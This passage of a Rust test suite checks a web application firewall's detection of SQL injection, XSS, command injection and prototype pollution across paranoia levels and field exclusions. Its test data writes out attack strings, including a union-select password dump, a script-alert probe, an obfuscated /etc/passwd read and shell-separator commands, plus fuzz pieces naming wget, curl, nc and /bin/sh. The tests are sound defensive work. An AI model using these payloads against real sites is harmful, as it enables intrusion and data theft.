        "''",
        ",",
        ".",
        " ",
        "  ",
        "9",
        "or",
        "and",
        "union",
        "select",
        "order",
        "by",
        "sleep",
        "true",
        "null",
        "like",
        "is",
        "not",
        "in",
        "current_user",
        "version",
        "char",
        "at",
        "time",
        "zone",
        "begin",
        "for",
        "update",
    ];
    let mut next = choices(0x9e37_79b9_7f4a_7c15_u64);
    let (mut plain, mut other) = (0, 0);
    for _ in 0..20_000 {
        let mut text = numbers[next(numbers.len())].to_owned();
        for _ in 0..1 + next(8) {
            if next(2) == 0 {
                text.push(' ');
            }
            text.push_str(pieces[next(pieces.len())]);
        }
        if !plain_words(text.as_bytes()) {
            other += 1;
            continue;
        }
        plain += 1;
        for dialect in [SqliFlags::FLAG_SQL_ANSI, SqliFlags::FLAG_SQL_MYSQL] {
            let mut state = SqliState::new(text.as_bytes(), SqliFlags::FLAG_QUOTE_NONE | dialect);
            assert!(!state.is_sqli(), "{text:?}");
        }
    }
    assert!(plain > 5000 && other > 5000, "{plain} plain, {other} other");
}

#[test]
fn exclusions_disabled_rules_and_paranoia_apply() {
    let attack = json(
        "/users/register",
        r#"{"email":"a@b.c","password":"x","name":"1' or '1'='1"}"#,
    );
    let password = json(
        "/users/register",
        r#"{"email":"a@b.c","password":"1' or '1'='1"}"#,
    );
    let waf = waf();
    // The password is excluded on the user routes; other fields are not.
    assert!(!password.verdict(&waf).anomalous);
    assert!(attack.verdict(&waf).anomalous);
    // The same field on another route is inspected.
    let elsewhere = json("/products", r#"{"password":"1' or '1'='1"}"#);
    assert!(elsewhere.verdict(&waf).anomalous);

    let config = Config::parse("mode = \"block\"\ndisabled_rules = [\"942000-942999\"]").unwrap();
    let lenient = Waf::new(config).unwrap();
    let verdict = attack.verdict(&lenient);
    assert!(
        verdict.hits.iter().all(|h| h.rule / 1000 != 942),
        "{:?}",
        verdict.hits
    );

    // A notice alone (body without Content-Type, 2) stays under the threshold.
    let mut untyped = req(Method::POST, "/orders");
    untyped.body = b"{}".to_vec();
    let verdict = untyped.verdict(&waf);
    assert_eq!(verdict.score, 2);
    assert!(!verdict.anomalous);
}

#[test]
fn every_rule_compiles_and_a_verdict_names_its_rules() {
    let waf = waf();
    let verdict = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E").verdict(&waf);
    assert!(verdict.score >= 5);
    assert!(
        verdict.rule_ids().contains("941110"),
        "{}",
        verdict.rule_ids()
    );
    assert!(verdict.hits.iter().any(|h| h.target == "ARGS:q"));
}

#[test]
fn higher_paranoia_levels_add_stricter_rules() {
    let at = at_level;
    let ids = |waf: &Waf, request: &Req| -> Vec<u32> {
        request.verdict(waf).hits.iter().map(|h| h.rule).collect()
    };
    // Many special characters in one argument: an anomaly at PL2 (12), PL3 (6), PL4 (2).
    let symbols = get(
        "/search?q=Size:+10+(US)+/+44+(EU)+-+color:+%23ff0000+-+price:+%2459.99+%2B+tax+%3D+total+%5Bapprox%5D",
    );
    let few = get("/search?q=(S)+(M)+%5BL%5D+-+XL");
    let two = get("/search?q=3%2F4+inch+(19mm)");
    let mut bare = get("/products");
    bare.headers.remove(header::USER_AGENT);
    bare.headers.remove(header::ACCEPT);
    let wildcard = get("/search?q=x%3B/???/c?t+/???/p??swd");
    let accented = get("/search?q=caf%C3%A9");

    let pl1 = at(1);
    for request in [&symbols, &few, &two, &bare, &accented] {
        assert!(!request.verdict(&pl1).anomalous, "{}", request.uri);
    }
    let pl2 = at(2);
    assert!(ids(&pl2, &symbols).contains(&942430));
    assert!(!ids(&pl2, &few).contains(&942431));
    assert!(ids(&pl2, &bare).contains(&920300) && ids(&pl2, &bare).contains(&920320));
    assert!(ids(&pl2, &wildcard).contains(&932200));
    let pl3 = at(3);
    assert!(ids(&pl3, &few).contains(&942431));
    assert!(ids(&pl3, &accented).contains(&920272));
    let pl4 = at(4);
    assert!(ids(&pl4, &two).contains(&942432));
}

/// A long value repeated in a request is scanned once, but each copy is judged as its own:
/// an exclusion covering the first copy's field leaves the second's hit standing (and named),
/// and a repeated shopper's text stays clean however often it appears.
#[test]
fn a_repeated_value_is_judged_for_every_place_it_appears() {
    let waf = waf();
    let payload = "1' or '1'='1' union select password from users where name like '%admin%' --";
    assert!(payload.len() >= super::REPEAT_LEN);
    // `password` is excluded on the user routes (see `waf.toml`); `name` is not. Either copy
    // may come first.
    for (first, second) in [("password", "name"), ("name", "password")] {
        let body = format!(r#"{{"{first}":"{payload}","{second}":"{payload}"}}"#);
        let verdict = json("/users/register", &body).verdict(&waf);
        assert!(verdict.anomalous, "{body}");
        assert!(
            verdict.hits.iter().all(|h| h.target == "ARGS:name"),
            "{:?}",
            verdict.hits
        );
    }
    let alone = json(
        "/users/register",
        &serde_json::json!({"password": payload}).to_string(),
    );
    assert!(!alone.verdict(&waf).anomalous);
    // The same text in a field of its own kind and a repeated note: nothing to find.
    let note = "Please leave the parcel at the back door if nobody answers; thanks (again)!";
    let body = serde_json::json!({"gift": {"message": note}, "notes": [note, note], "card": note});
    let verdict = json("/cart/items", &body.to_string()).verdict(&waf);
    assert!(verdict.hits.is_empty(), "{:?}", verdict.hits);
}

/// `dir` is a sort direction's name far more often than a command: alone, as an argument's
/// name or value, it passes; after a command separator it is still the Windows command.
#[test]
fn dir_alone_is_a_name_and_after_a_separator_a_command() {
    let waf = waf();
    for shopper in [
        get("/products?sort=name&dir=desc"),
        get("/products?dir=asc"),
        json("/cart/items", r#"{"dir":"asc","items":[]}"#),
    ] {
        let verdict = shopper.verdict(&waf);
        assert!(
            verdict.hits.is_empty(),
            "{}: {}",
            shopper.uri,
            verdict.rule_ids()
        );
    }
    for attack in [
        "/search?q=shoes%3Bdir",
        "/search?q=shoes%26%26dir",
        "/search?q=x%7Cdir",
    ] {
        let verdict = get(attack).verdict(&waf);
        assert!(
            verdict.hits.iter().any(|h| h.rule == 932110),
            "{attack}: {}",
            verdict.rule_ids()
        );
    }
}

/// A thread keeps its token buffers from one request to the next, and nothing in them: a name
/// that matched in one request is not held against the clean request after it.
#[test]
fn nothing_carries_over_from_one_request_to_the_next() {
    let waf = waf();
    let attack = json("/cart/items", r#"{"__proto__":{"admin":true}}"#);
    let clean = json("/cart/items", r#"{"product_id":"p1","quantity":2}"#);
    for _ in 0..3 {
        assert!(attack.verdict(&waf).anomalous);
        let verdict = clean.verdict(&waf);
        assert!(verdict.hits.is_empty(), "{:?}", verdict.hits);
    }
}

/// The one pass over text that reads its shell view without making it answers what the two
/// sets answer of the text and of the made view, at every level, on texts built from the
/// pieces of commands, SQL and prose (quotes, runs of spaces, separators, slashes, accents;
/// text with whitespace beyond ASCII's is left to the views).
#[test]
fn text_and_shell_in_one_pass_agree_with_the_views() {
    let pieces = [
        "cscli",
        "busybox",
        "é",
        "Église",
        "’",
        "…",
        "\u{a0}",
        "\u{2028}",
        "ls",
        "cat",
        "wget",
        "curl",
        "union",
        "select",
        "from",
        "where",
        "or",
        "1=1",
        "sleep(5)",
        "/etc/passwd",
        "/bin/sh",
        "bin",
        "sh",
        "nc",
        "id",
        "whoami",
        "ipconfig",
        "alias",
        "x=y",
        "the",
        "shop",
        "size",
        "a",
        "10.5",
        " ",
        "  ",
        "\t",
        ",",
        ";",
        "'",
        "\"",
        "\\",
        "^",
        "/",
        "(",
        ")",
        "|",
        "&&",
        "$(",
        "`",
        "\n",
        "=",
        "--",
        "#",
        "*",
        "<",
        ">",
        "script",
        "${",
    ];
    let mut next = choices(0x2545_f491_4f6c_dd1d_u64);
    for level in 1..=4 {
        let waf = at_level(level);
        let text_set = &waf.sets[SetId::TextAndSql as usize];
        let shell_set = &waf.sets[SetId::Cmd as usize];
        let mut caches: [Cache; 2] = [text_set.create_cache(), shell_set.create_cache()];
        let mut table = dfa::PairTable::new(text_set, shell_set);
        let (mut matched, mut clean) = (0, 0);
        // Where the shell view's spaces decide: a trailing one, one before `/`, runs of them.
        let chosen = [
            "cscli ",
            "cscli",
            " ls",
            "binnc,where,${  /bin/shx=ywhoami\\",
            "a , /etc/passwd",
            "x;  ls\t",
            "c'a't /e\\tc",
        ];
        let random: Vec<String> = (0..800)
            .map(|_| {
                let count = 1 + next(12);
                (0..count).map(|_| pieces[next(pieces.len())]).collect()
            })
            .collect();
        for text in chosen.iter().map(|t| t.to_string()).chain(random) {
            let views = Views::of_decoded(text.as_bytes());
            if !views.shell_bytewise() {
                continue;
            }
            let text = views.text.as_bytes();
            let [text_cache, shell_cache] = &mut caches;
            let expected = !text_set.matches(text_cache, text).is_empty()
                || !shell_set.matches(shell_cache, &views.cmd()).is_empty();
            let found = dfa::text_and_shell(
                (text_set, text_cache),
                (shell_set, shell_cache),
                &mut table,
                text,
            );
            assert_eq!(found, expected, "level {level}: {:?}", views.text);
            if expected { matched += 1 } else { clean += 1 }
        }
        assert!(
            matched > 100 && clean > 100,
            "level {level}: {matched} matched, {clean} clean"
        );
    }
}
